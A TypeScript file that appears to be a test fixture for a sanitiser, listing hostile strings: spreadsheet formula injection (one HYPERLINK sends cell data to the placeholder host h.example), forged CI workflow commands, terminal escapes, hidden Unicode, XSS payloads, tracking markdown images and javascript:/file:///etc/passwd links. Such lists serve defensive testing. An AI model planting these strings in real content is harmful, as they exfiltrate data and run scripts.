/**
 * Texts that people who wish ill write into models and names of files: each would do something somewhere if it were
 * handed on as it is.
 */
export const HOSTILE: readonly string[] = [
  // Formulas of spreadsheets.
  '=HYPERLINK("http://h.example/?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  ' =1+1',
  '＝1+1',
  'a;=1+1',
  '\t=1+1',
  '\n=1+1',
  // Commands to build servers.
  '::error::boom',
  ' \u00a0::set-output name=a::b',
  'a\n::error::boom',
  'a\r::error::boom',
  'a\u2028::error::boom',
  '%0A::error::boom',
  'a,line=1::boom',
  '##vso[task.setvariable variable=a]b',
  'a ##[error]b',
  '####[error]b',
  '#\u200d#[error]b',
  '#\u200b#[error]b',
  "##teamcity[message text='a']",
  // What steers a terminal.
  '\u001b[31mred\u001b]0;title\u0007',
  '\u009b31mred',
  'a\bb\u007fc\u0000d',
  // What is not seen.
  'abc\u202edcba',
  '\u2066a\u2067b\u2069',
  'a\u061cb\u200ec\u200fd',
  'a\u200bb\ufeffc\u2060d\u00ade',
  'a\u2029b\u0085c',
  'a\u{e0041}b',
  'a\ud800b',
  // Markup.
  '<script>alert(1)</script>',
  '"><img src="http://h.example/a.png" onerror="alert(1)">',
  "' onload='alert(1)",
  ']]></svg><!--',
  '&lt;b&gt; &#60;i&#62; &amp;',
  '![a](http://h.example/a.png)',
  '\\![a](http://h.example/a.png)',
  '![a][b]\n\n[b]: http://h.example/a.png',
  '[a](javascript:alert(1))',
  '[a](command:workbench.action.quit)',
  '[a](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '`a` | b | c\n---|---',
  '# a\n\n    b\n\n- c',
];
